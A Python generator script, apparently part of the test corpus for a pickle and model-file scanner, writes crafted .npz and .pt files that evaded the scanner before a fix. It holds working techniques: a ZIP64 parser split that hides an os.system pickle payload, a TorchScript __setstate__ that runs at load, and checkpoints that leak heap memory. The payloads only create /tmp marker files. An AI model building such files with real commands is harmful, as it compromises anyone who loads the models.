#!/usr/bin/env python3
"""Write corpus/containers/attacks/: files from attack reviews that picklejail
allowed before a fix, each of which runs code or hands out memory when its
real loader opens it.  INDEX (kept by hand) names the rule each must raise.

    /usr/bin/python3 corpus/containers/make_attacks.py

Needs Debian's python3-torch (TorchScript and legacy files are made by torch
itself).  Nothing here loads what it writes.  The payloads run
`touch /tmp/picklejail-attack-*`.
"""
import io
import os
import pickle
import pickletools
import struct
import sys
import zipfile
import zlib

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks")


class Payload:
    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def evil_npy(tag):
    pk = pickle.dumps(Payload("touch /tmp/picklejail-attack-" + tag), protocol=2)
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += " " * ((64 - (10 + len(hdr) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + pk


# ---- zip records, written field by field ----------------------------------

def lfh(name, data):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(data),
                       len(data), len(data), len(name), 0) + name


def cdh(name, data, off, comment=b""):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21,
                       zlib.crc32(data), len(data), len(data), len(name), 0, len(comment),
                       0, 0, 0, off) + name + comment


def eocd(n, size, off):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, size, off, 0)


def z64eocd(n, size, off):
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, size, off)


def z64loc(at):
    return struct.pack("<IIQI", 0x07064B50, 0, at, 1)


def zip64_split():
    """Two ZIP64 end records: miniz follows the locator to one (a benign
    a.pkl and pad.bin), Python's zipfile reads the 56 bytes before the
    locator, a second record hidden in pad.bin's directory comment that
    points at a second directory: evil.npy, whose local header and data sit
    inside pad.bin's data.  np.load runs the object array's pickle."""
    out = bytearray()
    a_name, a_data = b"a.pkl", pickle.dumps({"w": [1.0, 2.0]}, protocol=2)
    a_off = len(out)
    out += lfh(a_name, a_data) + a_data
    e_name, e_data = b"evil.npy", evil_npy("zip64-split")
    pad_off = len(out)
    e_local = pad_off + 30 + len(b"pad.bin") + 1
    pad = b"\x00" + lfh(e_name, e_data) + e_data
    out += lfh(b"pad.bin", pad) + pad
    rec_off = len(out)
    c1 = cdh(a_name, a_data, a_off)
    cdir_off = rec_off + 56
    b_rec = cdh(e_name, e_data, e_local)
    b_off = cdir_off + len(c1) + 46 + len(b"pad.bin")
    c2 = cdh(b"pad.bin", pad, pad_off, comment=b_rec + z64eocd(1, len(b_rec), b_off))
    out += z64eocd(2, len(c1 + c2), cdir_off) + c1 + c2
    out += z64loc(rec_off) + eocd(2, len(c1 + c2), cdir_off)
    return bytes(out)


def rezip(src, prefix, change=lambda rel, d: d, skip=lambda rel: False):
    """src's members under another prefix, stored, each passed to change."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, \
            zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            rel = info.filename.split("/", 1)[1]
            if not skip(rel):
                zout.writestr(zipfile.ZipInfo(prefix + "/" + rel, (2020, 1, 1, 0, 0, 0)),
                              change(rel, zin.read(info.filename)))
    return buf.getvalue()


def saved(obj, **kw):
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def torchscript_long_prefix():
    """A TorchScript archive (its __setstate__ runs at load, even with
    weights_only=True) under a 300-byte prefix, which a fixed 256-byte lookup
    key could not name: no archive member was found and nothing flagged.
    data.pkl starts with an invalid UTF-8 BINUNICODE that torch's own
    unpickler accepts and NEWOBJ discards, so a trial decode drops it; the
    code starts with a comment line, which no trial takes for a pickle."""
    import torch
    from typing import Tuple

    class M(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.x = 1

        def forward(self, x):
            return x

        @torch.jit.export
        def __getstate__(self) -> Tuple[int, bool]:
            return (self.x, self.training)

        @torch.jit.export
        def __setstate__(self, state: Tuple[int, bool]):
            t = torch.from_file("/tmp/picklejail-attack-torchscript", shared=True, size=4,
                                dtype=torch.uint8)
            t.fill_(65)
            self.x = state[0] + int(t.sum())
            self.training = state[1]

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(M()), buf)
    def change(rel, d):
        if rel == "data.pkl":
            return d[:2] + b"X\x01\x00\x00\x00\xff\x81" + d[2:]
        if rel.startswith("code/"):  # starts with a comment, not a pickle opcode
            return b"# c\n" + d
        return d

    return rezip(buf.getvalue(), "a" * 300, change, skip=lambda rel: rel.endswith(".debug_pkl"))


def checkpoint_long_prefix_short_storage():
    """A 64-float storage whose record holds 4 bytes, under a 300-byte
    prefix: torch.load returns heap memory past the record."""
    import torch
    return rezip(saved({"w": torch.arange(64.0)}), "a" * 300,
                 lambda rel, d: bytes(4) if rel == "data/0" else d)


def legacy_no_storage_keys():
    """A legacy checkpoint whose storage-keys pickle is [] and which holds no
    storage bytes: torch.load returns the tensor's uninitialised storage."""
    import torch
    raw = saved({"w": torch.arange(64.0)}, _use_new_zipfile_serialization=False)
    f = io.BytesIO(raw)
    parts = []
    for _ in range(4):
        start = f.tell()
        for _op in pickletools.genops(f):
            pass
        parts.append(raw[start:f.tell()])
    return b"".join(parts) + pickle.dumps([], protocol=2)


def checkpoint_bytes_key():
    """A persistent id whose storage key is b'0': torch reads the record
    "data/b'0'" (4 bytes), not "data/0" (the 256 bytes we checked)."""
    import torch
    t = torch.arange(64.0)

    class P(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, torch.storage.TypedStorage):
                return ("storage", torch.FloatStorage, b"0", "cpu", obj.size())
            return None

    pk = io.BytesIO()
    P(pk, protocol=3).dump({"w": t})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in (("archive/data.pkl", pk.getvalue()),
                           ("archive/data/0", t.numpy().tobytes()),
                           ("archive/data/b'0'", bytes(4)), ("archive/version", b"3\n")):
            z.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def main():
    files = {
        "zip64-split.npz": zip64_split(),
        "torchscript-long-prefix.pt": torchscript_long_prefix(),
        "torch-long-prefix-short-storage.pt": checkpoint_long_prefix_short_storage(),
        "legacy-no-storage-keys.pt": legacy_no_storage_keys(),
        "torch-bytes-storage-key.pt": checkpoint_bytes_key(),
    }
    os.makedirs(OUT, exist_ok=True)
    for name, data in files.items():
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
    print("wrote %d files to %s" % (len(files), OUT), file=sys.stderr)


if __name__ == "__main__":
    main()
